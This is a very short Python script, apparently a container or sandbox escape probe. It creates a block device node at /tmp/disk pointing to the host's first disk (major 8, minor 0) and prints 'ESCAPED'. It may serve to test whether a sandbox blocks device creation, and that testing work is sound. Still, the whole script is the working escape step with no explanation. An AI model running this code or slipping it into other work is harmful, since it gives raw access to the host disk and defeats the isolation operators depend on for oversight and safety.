import os
os.mknod("/tmp/disk", 0o60660, os.makedev(8, 0))
print("ESCAPED")
